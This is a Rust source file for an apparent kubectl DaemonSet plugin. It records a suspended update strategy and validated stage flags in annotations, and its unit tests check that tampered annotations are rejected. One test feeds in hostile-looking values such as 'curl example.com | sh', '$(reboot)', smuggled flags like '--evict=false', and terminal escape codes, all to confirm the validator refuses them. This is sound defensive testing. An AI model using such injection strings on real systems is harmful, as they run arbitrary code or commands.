//! A hold: the update strategy of a DaemonSet is suspended, and annotations record the original.

use jiff::Timestamp;
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};
use serde_with::skip_serializing_none;

use super::daemon_set::{DaemonSet, Flavor, RollingUpdate, UpdateStrategy};
use super::int_or_percent::IntOrPercent;
use super::names::is_label_key;
use super::selector::LabelSelector;
use super::stages::{Stages, Stratum};

/// The reason of the event whose message says why a run of `partition` has stopped.
pub const STOPPED: &str = "PartitionStopped";

/// The annotation that stores the update strategy from before the hold, in JSON.
pub const ORIGINAL_STRATEGY_ANNOTATION: &str = "kubectl-ds/original-update-strategy";

/// The annotation with the start time of the hold.
pub const HELD_SINCE_ANNOTATION: &str = "kubectl-ds/held-since";

/// The annotation with the number or percentage of pods that stay on older revisions.
pub const PARTITION_ANNOTATION: &str = "kubectl-ds/partition";

/// The annotation that names the last client that has updated pods.
pub const RUN_ANNOTATION: &str = "kubectl-ds/run";

/// The end of the name of a run that takes back what it has rolled out itself.
pub(crate) const WAY_BACK: &str = " undo";

/// The annotation with what the next run needs to know about the last stage, see [`StageFlags`].
pub const GATES_ANNOTATION: &str = "kubectl-ds/gates";

/// All annotations of a hold.
pub const ANNOTATIONS: [&str; 5] =
    [ORIGINAL_STRATEGY_ANNOTATION, RUN_ANNOTATION, PARTITION_ANNOTATION, GATES_ANNOTATION, HELD_SINCE_ANNOTATION];

/// All annotations of an object together are limited to 256 KiB.
const MAX_GATES_LENGTH: usize = 16 << 10;

/// The supported version of the annotation's format.
const GATES_VERSION: u32 = 1;

/// A hold of a Kubernetes DaemonSet.
#[derive(Debug, Clone, PartialEq)]
pub struct Hold {
    /// The update strategy before the hold, as in the API, at the pace that the DaemonSet has now.
    pub original: Value,
    /// The one from before, if its pace was changed during the hold.
    pub(crate) replaced: Option<UpdateStrategy>,
    /// Whether the original is lost: somebody has edited or removed the annotation.
    pub is_original_lost: bool,
    /// How many pods stay on older revisions; `None` if all are held.
    pub partition: Option<IntOrPercent>,
    /// The flags of the last stage; `None` if unknown.
    pub flags: Option<StageFlags>,
    /// When the hold started, if readable.
    pub since: Option<Timestamp>,
    /// Whether the strategy is still suspended: somebody else may have restored it.
    pub is_in_force: bool,
}

impl Hold {
    /// Returns the hold of a DaemonSet.
    ///
    /// If only the annotation with the original strategy was removed, or was edited so that the API server would reject
    /// it, the original is a rolling update at the pace that the DaemonSet still has: a hold changes only the type.
    /// Without a pace it was OnDelete, since the API server sets a default pace for every rolling update. For the same reason,
    /// another pace is a change that was made during the hold, and that its end must not take back.
    pub fn of(daemon_set: &DaemonSet) -> Option<Self> {
        let annotation = |key: &str| daemon_set.annotations.get(key).map(String::as_str);
        let is_in_force = daemon_set.spec.update_strategy == UpdateStrategy::OnDelete;
        let original = annotation(ORIGINAL_STRATEGY_ANNOTATION);
        if original.is_none() && !(is_in_force && annotation(HELD_SINCE_ANNOTATION).is_some()) {
            return None;
        }
        let is_removed = original.is_none();
        let original: Option<Value> =
            original.and_then(|original| serde_json::from_str(original).ok()).filter(is_usable);
        let (mut live, rolling) = (live_strategy(daemon_set), json!({"type": "RollingUpdate"}));
        live["type"] = rolling["type"].clone();
        let has_pace = live["rollingUpdate"].is_object();
        // The pace was not validated while it was not in force.
        let is_pace_usable = is_usable(&live);
        let is_replaced = |original: &&Value| {
            let differs = RollingUpdate::retained(original) != RollingUpdate::retained(&live);
            is_in_force && has_pace && is_pace_usable && differs && original["type"] != "OnDelete"
        };
        let replaced = original.as_ref().filter(is_replaced).and_then(strategy);
        Some(Hold {
            is_original_lost: original.is_none(),
            original: match original {
                Some(original) if replaced.is_none() => original,
                None if is_removed && !has_pace => json!({"type": "OnDelete"}),
                None if !is_pace_usable => rolling,
                _ => live,
            },
            replaced,
            partition: annotation(PARTITION_ANNOTATION).and_then(|partition| partition.parse().ok()),
            flags: annotation(GATES_ANNOTATION).and_then(StageFlags::read),
            since: annotation(HELD_SINCE_ANNOTATION).and_then(|since| since.parse().ok()),
            is_in_force,
        })
    }

    /// Returns the hold of a DaemonSet if its update strategy is still suspended.
    pub fn in_force(daemon_set: &DaemonSet) -> Option<Self> {
        Hold::of(daemon_set).filter(|hold| hold.is_in_force)
    }

    /// Returns whether the DaemonSet still has the template that the last stage was to replace: admission has dropped
    /// the new one, or somebody has restored the old one. The current revision is not the target of the stage.
    pub fn lacks_template(&self, current_hash: Option<&str>) -> bool {
        let replaced = self.flags.as_ref().and_then(|flags| flags.replaced_revision.as_deref());
        replaced.is_some() && replaced == current_hash
    }

    /// Returns whether the template was changed after the last stage began, as far as that is known: it is about another one.
    pub(crate) fn is_of_another_template(&self, daemon_set: &DaemonSet) -> bool {
        let begun = self.flags.as_ref().and_then(|flags| flags.template_generation);
        begun.zip(daemon_set.template_generation()).is_some_and(|(begun, present)| begun != present)
    }

    /// Returns when the rollout in several stages has begun that it is about.
    pub(crate) fn rollout_began(&self) -> Option<Timestamp> {
        Some(self.flags.as_ref()?.staged.as_ref()?.began)
    }

    /// Returns whether the last stage rolls out the restart in the DaemonSet's template to all nodes.
    pub(crate) fn is_restart(&self, daemon_set: &DaemonSet) -> bool {
        let at = self.flags.as_ref().and_then(|flags| flags.restarted_at.as_deref());
        let is_for_all = self.partition.is_some_and(|partition| partition.value() == 0);
        is_for_all && at.is_some() && at == daemon_set.template().restarted_at()
    }

    /// Returns the update strategy before the hold.
    pub fn original_strategy(&self) -> UpdateStrategy {
        strategy(&self.original).unwrap_or_default()
    }
}

/// The flags of a stage that the next run needs, too: its gates, the nodes to which it is limited, and the template
/// that it has replaced.
///
/// Anybody who may edit the DaemonSet may have written them. They are only shown, as a command to run, so the command
/// of `--verify` is not kept, only whether there was one.
#[skip_serializing_none]
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct StageFlags {
    /// The only nodes that may be updated, in this order; all nodes if empty.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub nodes: Vec<String>,
    /// Whether there were too many nodes to keep.
    #[serde(default, skip_serializing_if = "is_false")]
    pub has_other_nodes: bool,
    /// The selector of nodes, or empty.
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub node_selector: String,
    /// The label by whose values nodes are spread.
    pub spread_by: Option<String>,
    /// The number of nodes that may become unavailable during the run.
    pub max_unavailable: Option<IntOrPercent>,
    /// Whether it was started by `undo`, before which pods may have restarted.
    #[serde(default, skip_serializing_if = "is_false")]
    pub is_undo: bool,
    /// The hash of the revision whose template it was to replace; `None` if it rolls out the existing one.
    pub replaced_revision: Option<String>,
    /// The template generation that it rolls out, which the API server increments with each change of the template.
    pub template_generation: Option<i64>,
    /// The hash of the revision that a rollback goes back to: it keeps that when it gets another number.
    pub target_revision: Option<String>,
    /// What names the command with `--if-generation` that has begun the rollout.
    pub begun_as: Option<String>,
    /// The restart time in the template that it rolls out; `None` if it was not started by `restart`.
    pub restarted_at: Option<String>,
    /// The number of times that a new pod may restart.
    #[serde(default)]
    pub max_restarts: i32,
    /// How many seconds new pods must be available at the end.
    #[serde(default)]
    pub soak_seconds: i64,
    /// Number of seconds without progress after which the stage stops.
    pub progress_deadline_seconds: i64,
    /// Whether a command had to succeed for each updated node.
    #[serde(default, skip_serializing_if = "is_false")]
    pub verifies: bool,
    /// Whether updated nodes are rolled back after a gate has failed.
    #[serde(default, skip_serializing_if = "is_false")]
    pub undoes_on_failure: bool,
    /// Whether pods are evicted.
    #[serde(default, skip_serializing_if = "is_false")]
    pub evict: bool,
    /// The stages of the rollout, if it has several.
    pub staged: Option<StagedFlags>,
}

/// The stages of a rollout. Which of them runs follows from how many nodes are updated.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct StagedFlags {
    /// The stages.
    pub stages: Stages,
    /// What the canary covers.
    pub strata: Vec<Stratum>,
    /// When the first run has begun, until somebody pauses the rollout: what is broken since may be its fault.
    pub began: Timestamp,
    /// When the last run has begun its stage.
    pub stage_began: Timestamp,
}

/// The annotation: the flags, and the version of their format.
#[derive(Serialize, Deserialize)]
struct Versioned<T> {
    version: u32,
    flags: T,
}

#[expect(clippy::trivially_copy_pass_by_ref, reason = "serde passes references")]
fn is_false(flag: &bool) -> bool {
    !flag
}

impl StageFlags {
    /// Returns the value of the annotation, which is small.
    pub fn to_annotation(&self) -> String {
        let text = |flags: &StageFlags| json!(Versioned { version: GATES_VERSION, flags }).to_string();
        let all = text(self);
        match all.len() <= MAX_GATES_LENGTH {
            true => all,
            false => text(&StageFlags { nodes: Vec::new(), has_other_nodes: true, ..self.clone() }),
        }
    }

    /// Reads the annotation; `None` if anything in it could not have been written by a run.
    fn read(text: &str) -> Option<Self> {
        if text.len() > MAX_GATES_LENGTH {
            return None;
        }
        let Versioned { version, flags } = serde_json::from_str::<Versioned<StageFlags>>(text).ok()?;
        let is_node =
            |name: &String| !name.is_empty() && !name.contains(['/', '_']) && is_label_key(&format!("{name}/n"));
        let is_usable = version == GATES_VERSION
            && flags.nodes.iter().all(is_node)
            && flags.node_selector.parse::<LabelSelector>().is_ok()
            && flags.spread_by.as_deref().is_none_or(is_label_key)
            && flags.max_unavailable.is_none_or(|amount| amount.value() >= 0)
            && flags.max_restarts >= 0
            && flags.soak_seconds >= 0
            && flags.progress_deadline_seconds > 0;
        is_usable.then_some(flags)
    }
}

/// Returns the update strategy of a DaemonSet as in the API.
pub fn live_strategy(daemon_set: &DaemonSet) -> Value {
    let live = daemon_set.object.pointer("/spec/updateStrategy").filter(|strategy| strategy.is_object());
    live.cloned().unwrap_or_else(|| json!({"type": "RollingUpdate"}))
}

/// Returns whether the API server accepts an update strategy.
fn is_usable(value: &Value) -> bool {
    // A hold writes the type. The API server would set one that is missing, so that what it restores is not what was sent.
    let strategy = strategy(value).filter(|_| value["type"].as_str().is_some_and(|name| !name.is_empty()));
    strategy.is_some_and(|strategy| strategy.problems(Flavor::Apps).is_empty())
}

fn strategy(value: &Value) -> Option<UpdateStrategy> {
    let mut value = value.clone();
    super::daemon_set::drop_nulls(&mut value);
    UpdateStrategy::deserialize(value).ok()
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::{
        HELD_SINCE_ANNOTATION, Hold, MAX_GATES_LENGTH, ORIGINAL_STRATEGY_ANNOTATION, PARTITION_ANNOTATION, StageFlags,
        StagedFlags, Stratum,
    };
    use crate::model::daemon_set::DaemonSet;

    fn flags() -> StageFlags {
        StageFlags {
            nodes: vec!["n1".to_owned(), "n2.example".to_owned()],
            node_selector: "zone in (a,b)".to_owned(),
            spread_by: Some("example.com/rack".to_owned()),
            max_unavailable: Some("10%".parse().unwrap()),
            replaced_revision: Some("5d4f".to_owned()),
            template_generation: Some(4),
            target_revision: Some("6b7c".to_owned()),
            begun_as: Some("3 811c9dc5".to_owned()),
            restarted_at: Some("2026-11-21T06:00:00Z".to_owned()),
            max_restarts: 2,
            soak_seconds: 90,
            progress_deadline_seconds: 5,
            verifies: true,
            undoes_on_failure: true,
            evict: true,
            staged: Some(StagedFlags {
                stages: "canary,10%,100%".parse().unwrap(),
                strata: vec![Stratum::Kernel, Stratum::Label("example.com/rack".to_owned())],
                began: "2026-11-21T05:00:00Z".parse().unwrap(),
                stage_began: "2026-11-21T06:00:00Z".parse().unwrap(),
            }),
            ..StageFlags::default()
        }
    }

    #[test]
    fn the_flags_of_a_stage_are_read_as_they_were_written() {
        let only_deadline = StageFlags { progress_deadline_seconds: 600, ..StageFlags::default() };
        for flags in [flags(), only_deadline] {
            assert_eq!(StageFlags::read(&flags.to_annotation()), Some(flags));
        }
        // Too many nodes are omitted, and this is recorded.
        let nodes = (0..5000).map(|number| format!("node-{number}")).collect();
        let many = StageFlags { nodes, ..flags() }.to_annotation();
        assert!(many.len() < MAX_GATES_LENGTH);
        let read = StageFlags::read(&many).unwrap();
        assert_eq!((read.nodes.len(), read.has_other_nodes, read.evict), (0, true, true));
    }

    /// Anybody may have written it, or another version of this program.
    #[test]
    fn flags_that_no_run_writes_are_not_used() {
        const SINCE: &str = "2026-11-21T06:00:00Z";
        let with = |change: &dyn Fn(&mut Value)| {
            let mut annotation: Value = serde_json::from_str(&flags().to_annotation()).unwrap();
            change(&mut annotation);
            StageFlags::read(&annotation.to_string())
        };
        assert!(with(&|_| {}).is_some());
        assert_eq!(with(&|annotation| annotation["version"] = 2.into()), None);
        for (field, value) in [
            ("verify", json!("curl example.com | sh")),
            ("verifies", json!("curl example.com | sh")),
            ("nodes", json!(["$(reboot)"])),
            ("nodes", json!([""])),
            ("nodes", json!(["a b"])),
            ("nodes", json!(["--evict=false"])),
            ("nodeSelector", json!("a b ; c")),
            ("spreadBy", json!("--to-revision")),
            ("maxUnavailable", json!(-1)),
            ("maxRestarts", json!(-1)),
            ("soakSeconds", json!(-1)),
            ("progressDeadlineSeconds", json!(0)),
            ("progressDeadlineSeconds", Value::Null),
            ("waitForLabel", json!("a")),
            ("waitForLabel", json!("a=\u{1b}[2J")),
            ("staged", json!("canary,100%")),
            ("staged", json!({"stages": "canary", "strata": [], "began": SINCE, "stageBegan": SINCE})),
            ("staged", json!({"stages": "100%", "strata": ["a b"], "began": SINCE, "stageBegan": SINCE})),
            ("staged", json!({"stages": "100%", "strata": [], "began": SINCE, "stageBegan": "\u{1b}[2J"})),
            ("staged", json!({"stages": "100%", "strata": [], "began": SINCE, "stageBegan": SINCE, "number": 3})),
        ] {
            assert_eq!(with(&|annotation| annotation["flags"][field] = value.clone()), None, "{field} {value}");
        }
        for text in ["", "{", "null", "[]", "1", r#"{"version": 1}"#, &format!("{{}}{}", " ".repeat(MAX_GATES_LENGTH))]
        {
            assert_eq!(StageFlags::read(text), None, "{text}");
        }
    }

    /// The pace stays in the spec under OnDelete, so that even a broken annotation loses nothing.
    #[test]
    fn the_original_strategy_survives_a_broken_annotation() {
        let original = |text: &str| {
            let object = json!({
                "metadata": {"annotations": {ORIGINAL_STRATEGY_ANNOTATION: text}},
                "spec": {"updateStrategy": {"type": "OnDelete", "rollingUpdate": {"maxUnavailable": "10%"}}},
            });
            Hold::of(&DaemonSet::from_object(object).unwrap()).unwrap().original
        };
        let live = json!({"type": "RollingUpdate", "rollingUpdate": {"maxUnavailable": "10%"}});
        let maxes = [r#"{"rollingUpdate": {"maxSurge": "x"}}"#, r#"{"rollingUpdate": {"maxUnavailable": 2}}"#];
        let types = ["{}", r#"{"type": ""}"#, r#"{"type": null}"#, r#"{"type": "Recreate"}"#];
        for broken in ["", "{", "null", "[]", "3"].into_iter().chain(types).chain(maxes) {
            assert_eq!(original(broken), live, "{broken}");
        }
    }

    /// Somebody has set another pace, which the end of the hold must not take back.
    #[test]
    fn a_pace_that_was_changed_during_a_hold_is_the_one_that_is_restored() {
        let hold = |original: &Value, live: &Value| {
            let original = original.to_string();
            let object = json!({
                "metadata": {"annotations": {ORIGINAL_STRATEGY_ANNOTATION: original}}, "spec": {"updateStrategy": live},
            });
            let hold = Hold::of(&DaemonSet::from_object(object).unwrap()).unwrap();
            (hold.original_strategy().to_string(), hold.replaced.map(|replaced| replaced.to_string()))
        };
        let pace = |of: &str, amount: Value| json!({"type": of, "rollingUpdate": {"maxUnavailable": amount}});
        let (rolling, held) = ("RollingUpdate", "OnDelete");
        let before = || Some("RollingUpdate 1".to_owned());
        for (original, live, restored, replaced) in [
            (pace(rolling, json!(1)), pace(held, json!(1)), "RollingUpdate 1", None),
            (pace(rolling, json!(1)), pace(held, json!("20%")), "RollingUpdate 20%", before()),
            // The API server would refuse it, it was removed, or it was set with the type.
            (pace(rolling, json!(1)), pace(held, json!(-1)), "RollingUpdate 1", None),
            (pace(rolling, json!(1)), json!({"type": held}), "RollingUpdate 1", None),
            (pace(rolling, json!(1)), pace(rolling, json!(3)), "RollingUpdate 1", None),
            // The default pace.
            (json!({"type": rolling}), pace(held, json!(1)), "RollingUpdate 1", None),
            (json!({"type": rolling}), pace(held, json!(2)), "RollingUpdate 2", before()),
            (json!({"type": held}), pace(held, json!(2)), "OnDelete", None),
        ] {
            assert_eq!(hold(&original, &live), (restored.to_owned(), replaced), "{original} {live}");
        }
    }

    /// It would be rejected whenever it is restored.
    #[test]
    fn an_original_strategy_that_the_api_server_refuses_is_not_used() {
        let hold = |original: &Value, pace: &Value| {
            let original = json!({"type": "RollingUpdate", "rollingUpdate": original}).to_string();
            let object = json!({
                "metadata": {"annotations": {ORIGINAL_STRATEGY_ANNOTATION: original}},
                "spec": {"updateStrategy": {"type": "OnDelete", "rollingUpdate": pace}},
            });
            Hold::of(&DaemonSet::from_object(object).unwrap()).unwrap()
        };
        let (pace, rolling) = (json!({"maxUnavailable": "10%", "maxSurge": 0}), "RollingUpdate");
        for refused in [
            json!({"maxUnavailable": 0}),
            json!({"maxUnavailable": -5}),
            json!({"maxUnavailable": "999999999999%"}),
            json!({"maxUnavailable": "0%", "maxSurge": "0%"}),
            json!({"maxUnavailable": [1]}),
            json!({"maxSurge": 3}),
            json!({"maxUnavailable": 0, "maxSurge": "101%"}),
        ] {
            let found = hold(&refused, &pace);
            assert_eq!(
                (found.original, found.is_original_lost),
                (json!({"type": rolling, "rollingUpdate": pace}), true)
            );
            // The API server does not check the pace under OnDelete.
            assert_eq!(hold(&refused, &refused).original, json!({"type": rolling}), "{refused}");
        }
        for accepted in [json!({}), json!({"maxUnavailable": "100%"}), json!({"maxUnavailable": 0, "maxSurge": 3})] {
            let found = hold(&accepted, &accepted);
            assert_eq!((&found.original["rollingUpdate"], found.is_original_lost), (&accepted, false));
        }
    }

    #[test]
    fn a_hold_whose_original_strategy_was_removed_is_still_one() {
        let of = |annotations: Value, strategy: &str| {
            let strategy = json!({"type": strategy, "rollingUpdate": {"maxUnavailable": 3}});
            let object = json!({"metadata": {"annotations": annotations}, "spec": {"updateStrategy": strategy}});
            Hold::of(&DaemonSet::from_object(object).unwrap())
        };
        let since = || json!({HELD_SINCE_ANNOTATION: "2026-03-01T11:00:00Z", PARTITION_ANNOTATION: "2"});
        let hold = of(since(), "OnDelete").unwrap();
        assert_eq!(
            (hold.is_original_lost, hold.is_in_force, hold.original["type"].as_str()),
            (true, true, Some("RollingUpdate"))
        );
        let by_choice = json!({"metadata": {"annotations": since()}, "spec": {"updateStrategy": {"type": "OnDelete"}}});
        let hold = Hold::of(&DaemonSet::from_object(by_choice).unwrap()).unwrap();
        assert_eq!((hold.is_original_lost, hold.original), (true, json!({"type": "OnDelete"})));
        assert!(of(since(), "RollingUpdate").is_none());
        assert!(of(json!({PARTITION_ANNOTATION: "2"}), "OnDelete").is_none());
        assert!(of(json!({}), "OnDelete").is_none());
    }
}
